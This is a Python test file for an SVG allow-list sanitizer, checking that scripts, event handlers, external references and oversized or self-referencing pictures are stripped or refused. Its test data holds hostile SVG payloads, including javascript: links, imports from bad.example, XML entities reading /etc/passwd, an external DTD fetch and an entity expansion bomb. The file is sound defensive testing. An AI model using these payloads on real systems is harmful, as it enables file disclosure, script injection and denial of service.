"""SVG from an allow-list: what draws stays, what does anything else goes or the picture is refused."""

from __future__ import annotations

import base64
import gzip
import html
from pathlib import Path

import html5lib
import pytest
from PIL import Image
from planted import MARK, MARKED, grainy, saved

from generator.diagnostics import Problem
from generator.pictures import CleanPicture, PictureKind, clean
from generator.render.photos import Ink, print_ready
from generator.render.press import press

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 20 10"'
)
RECT = '<rect x="1" y="1" width="8" height="8" fill="#c22d18"/>'


def svg(inside: str, more: str = "") -> bytes:
    return f"{HEAD} {more}>{inside}</svg>".encode()


def good(data: bytes) -> str:
    made = clean(data)
    assert isinstance(made, CleanPicture) and made.kind is PictureKind.SVG, made
    return made.data.decode("utf-8")


def refused(data: bytes) -> str:
    made = clean(data)
    assert isinstance(made, Problem)
    assert made.code in ("picture-broken", "picture-kind") and made.hint
    return made.message


HARMLESS = {
    "script": f"<script>{MARK}</script>",
    "script of another name space": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{MARK}</x:script>',
    "metadata": f"<metadata><rdf:RDF xmlns:rdf='r'>{MARK}</rdf:RDF></metadata>",
    "title and desc": f"<title>{MARK}</title><desc>{MARK}</desc>",
    "comment": f"<!-- {MARK} -->",
    "instruction": f"<?xml-stylesheet href='http://a.example/{MARK}'?>",
    "editor": f'<s:namedview xmlns:s="http://sodipodi" s:docname="{MARK}"/>',
    "animation": f'<animate attributeName="href" values="javascript:{MARK}"/><set to="{MARK}"/>',
    "handler": f'<g onload="{MARK}" onclick="{MARK}" data-x="{MARK}" aria-label="{MARK}"/>',
    "layer named after somebody": f'<g id="{MARK}" class="{MARK} b"/>',
    "editor's attribute": f'<g xmlns:i="http://inkscape" i:label="{MARK}" i:export-filename="/home/{MARK}"/>',
    "link": f'<a href="https://bad.example/{MARK}" xlink:href="javascript:{MARK}">{RECT}</a>',
    "outside use": f'<use href="https://bad.example/a.svg#{MARK}"/><use xlink:href="b.svg#{MARK}"/>',
    "outside paint": f'<g fill="url(https://bad.example/{MARK})" style="fill:url(//b/{MARK});mask:url(x)"/>',
    "import": f"<style>@import url(https://bad.example/{MARK}); @font-face{{src:url({MARK})}}</style>",
    "escaped import": f"<style>.a{{fill:\\75rl(http://bad.example/{MARK});--x:{MARK}}}</style>",
    "comment in a sheet": f"<style>/* {MARK} */ .a{{/*{MARK}*/fill:red}}</style>",
    "selector that reads": f'<style>[href^="{MARK}"]{{fill:red}} g:hover{{fill:red}}</style>',
    "text of nothing": MARK,
    "cdata": f"<![CDATA[{MARK}]]>",
    "attribute that escapes": f'<g fill="red\\{MARK}" transform="{MARK}&lt;script&gt;"/>',
}


@pytest.mark.parametrize("name", HARMLESS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_s3_h3_what_does_not_draw_is_left_out_in_any_encoding(name: str, encoding: str) -> None:
    made = good(svg(HARMLESS[name] + RECT).decode().encode(encoding))
    assert MARK not in made and MARK not in html.unescape(made)
    assert 'fill="#c22d18"' in made
    bare = made.replace("http://www.w3.org/2000/svg", "").lower()
    assert not any(word in bare for word in ("script", "http", "import", "onload", "\\"))


def test_h3_a_packed_svg_is_unpacked() -> None:
    assert good(gzip.compress(svg(RECT + HARMLESS["metadata"]))).startswith("<svg ")
    assert "太大" in refused(gzip.compress(bytes(50_000_000)))
    assert refused(gzip.compress(svg(RECT))[:40])


REFUSED = {
    "page": ("<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>", "网页"),
    "outside picture": ('<image href="https://bad.example/a.png"/>', "图片"),
    "picture in a filter": ('<filter id="a"><feImage href="a.png"/></filter>', "图片"),
    "itself": ('<g id="a"><use href="#a"/></g>', "引用了自己"),
    "round about": (
        '<g id="a"><use href="#b"/></g><g id="b" fill="url(#c)"/><pattern id="c"><use href="#a"/></pattern>',
        "引用了自己",
    ),
    "too deep": ("<g>" * 80 + "</g>" * 80, "太复杂"),
    "too many": ("<g/>" * 21_000, "太复杂"),
    "too much text": (f"<text>{'先' * 5_001}</text>", "太复杂"),
    "too many rules": (f"<style>{'.a{fill:red}' * 1_000}</style>{'<g/>' * 1_000}", "太复杂"),
    "itself by a sheet": (
        f'<style>.a{{fill:url(#p)}}</style><pattern id="p"><g class="a">{RECT}</g></pattern>',
        "引用了自己",
    ),
    "a sheet that nobody follows": ("<style>g > .a, rect{fill:url(#p)}</style>", "样式表"),
    "a marker at each corner by a sheet": (
        f'<style>.a{{marker-mid:url(#m)}}</style><marker id="m">{RECT * 90}</marker>'
        f'<path class="a" d="M0 0{"L1 1" * 5_000}"/>',
        "太复杂",
    ),
    "a marker at each corner": (
        f'<marker id="m">{RECT * 90}</marker><path marker-mid="url(#m)" d="M0 0{"L1 1" * 5_000}"/>',
        "太复杂",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_s3_what_would_be_half_a_picture_is_refused(name: str) -> None:
    inside, word = REFUSED[name]
    assert word in refused(svg(inside))


def test_h3_a_photo_inside_an_svg_is_refused() -> None:
    photo = base64.b64encode(saved(grainy((60, 40)), "JPEG", comment=MARKED)).decode()
    for name in ("href", "xlink:href"):
        assert "图片" in refused(svg(f'<image {name}="data:image/jpeg;base64,{photo}"/>'))


def test_s3_uses_of_uses_are_counted() -> None:
    layers = "".join(f'<g id="a{at}">{f"""<use href="#a{at - 1}"/>""" * 10}</g>' for at in range(1, 12))
    assert "太复杂" in refused(svg(f'<g id="a0">{RECT}</g>{layers}<use href="#a11"/>'))


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE svg [<!ENTITY a "b">]>',
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://bad.example/x.dtd"> %a;]>',
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ],
)
def test_s3_entities_are_refused(declared: str) -> None:
    assert "ENTITY" in refused(declared.encode() + svg("<text>&a;</text>"))


def test_the_usual_doctype_of_svg_is_no_harm() -> None:
    usual = (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    )
    assert good(usual + svg(RECT)) == good(svg(RECT))


@pytest.mark.parametrize("data", [b"<foo/>", b"<svg", b"<svg xmlns='x'/>", svg(RECT)[:-9], b"<?xml ?>"])
def test_s2_what_is_no_whole_svg_is_refused(data: bytes) -> None:
    assert refused(data).startswith("不是能打开的图片")


def test_what_draws_stays() -> None:
    drawn = (
        '<style>.a, .d{fill:url(#g)} .a, #b > rect{stroke:#000}</style><defs><linearGradient id="g" x1="0">'
        '<stop offset="0" stop-color="#fff" style="stop-opacity:.5"/></linearGradient></defs>'
        '<g id="b" class="a" transform="translate(1 2)">'
        '<path d="M0 0L9 9z" style="fill:none;stroke-width:2"/><use xlink:href="#g"/></g>'
        '<text x="1" y="9" font-family="\'Noto Sans\', 黑体">先停<tspan dx="1">一停</tspan></text>'
    )
    made = good(svg(drawn, 'width="200" height="100"'))
    for kept in (
        '{fill:url(#i0)}.c0, #i1 &gt; rect{stroke:#000}', 'x1="0"', 'style="stop-opacity:.5"', 'id="i0"',
        'class="c0"', 'transform="translate(1 2)"', 'd="M0 0L9 9z"', 'style="fill:none;stroke-width:2"',
        'href="#i0"', "先停", "一停", "黑体", 'width="200"', 'viewBox="0 0 20 10"',
    ):  # fmt: skip
        assert kept in made
    assert good(made.encode()) == made


def test_another_parser_finds_elements_of_the_list_alone() -> None:
    everything = good(svg("".join(HARMLESS.values()) + RECT))
    tree = html5lib.parse(everything, treebuilder="etree", namespaceHTMLElements=False)
    names = {element.tag.rpartition("}")[2] for element in tree.iter() if isinstance(element.tag, str)}
    assert names <= {"html", "head", "body", "svg", "g", "rect", "use", "style"}


def test_the_press_draws_what_the_door_let_through(tmp_path: Path) -> None:
    made, kind = print_ready(svg(RECT + HARMLESS["script"]), Ink.GREY)
    (tmp_path / "a.svg").write_bytes(made)
    pressed = press('<html lang="zh"><img src="a.svg" alt="x" style="width:50mm">', folders=(tmp_path,))
    assert (kind, pressed.complaints, MARKED in pressed.pdf) == ("image/svg+xml", (), False)


def test_h3_pictures_that_a_product_brings_come_through_the_door_too(tmp_path: Path) -> None:
    (tmp_path / "a.jpg").write_bytes(saved(Image.new("RGB", (40, 30), "red"), "JPEG", comment=MARKED))
    (tmp_path / "b.svg").write_bytes(svg('<image href="a.jpg"/>'))
    (tmp_path / "c.jpg").write_bytes(b"text")
    pressed = press('<html lang="zh"><img src="a.jpg" alt="x">', folders=(tmp_path,))
    assert (pressed.complaints, MARKED in pressed.pdf, b"/DCTDecode" in pressed.pdf) == ((), False, True)
    for name in ("b.svg", "c.jpg"):
        assert press(f'<html lang="zh"><img src="{name}" alt="x">', folders=(tmp_path,)).complaints
